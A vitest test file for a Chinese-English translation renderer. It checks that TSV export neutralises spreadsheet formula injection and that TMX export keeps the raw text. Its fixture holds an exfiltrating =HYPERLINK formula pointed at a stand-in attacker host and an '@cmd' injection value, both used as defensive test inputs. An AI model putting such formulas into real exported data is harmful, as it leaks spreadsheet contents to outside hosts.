import { describe, expect, it } from 'vitest';
import { sampleMeta } from '../../tests/fixtures/meta';
import type { BuiltDoc } from '../model';
import { renderDocs } from './index';

/** One pair whose translation is a formula and whose Chinese starts with a minus sign. */
function formulaDoc(): BuiltDoc {
  const zh = '－两国加强合作。';
  const en = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
  return {
    meta: sampleMeta('doc-formula'),
    zh: [
      {
        kind: 'paragraph',
        text: zh,
        original: zh,
        simplified: zh,
        sentences: [{ original: zh, simplified: zh, words: [] }],
      },
    ],
    en: [
      { kind: 'paragraph', text: en, sentences: [en] },
      { kind: 'paragraph', text: '@cmd', sentences: ['@cmd'] },
    ],
    pairs: [
      {
        id: 0,
        zh: [0],
        en: [0],
        confidence: 0.9,
        unaligned: false,
        lowConfidence: false,
        sentences: [{ zh: [0], en: [0], confidence: 0.9 }],
      },
      { id: 1, zh: [], en: [1], confidence: 0, unaligned: true, lowConfidence: false, sentences: [] },
    ],
    stats: {
      blocks: 1,
      enBlocks: 2,
      sentences: 1,
      enSentences: 2,
      words: 0,
      characters: 8,
      pairs: 2,
      aligned: 1,
      unaligned: 1,
      lowConfidence: 0,
      translated: 1,
      warnings: 0,
    },
    dropped: [],
    warnings: [],
  };
}

describe('the pairs TSV', () => {
  it('row 22.6: a field a spreadsheet would run as a formula gets a single quote in front; the TMX keeps the text', () => {
    const lines = renderDocs('tsv', [formulaDoc()]).split('\n');
    expect(lines[0]!.split('\t')).toEqual([
      'doc-formula',
      "'－两国加强合作。",
      `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
    ]);
    expect(lines[1]!.split('\t')).toEqual(['doc-formula', '', "'@cmd"]);
    const tmx = renderDocs('tmx', [formulaDoc()]);
    expect(tmx).toContain('<seg>=HYPERLINK("https://evil.example/?"&amp;A1,"Click")</seg>');
    expect(tmx).not.toContain("'=HYPERLINK");
  });
});
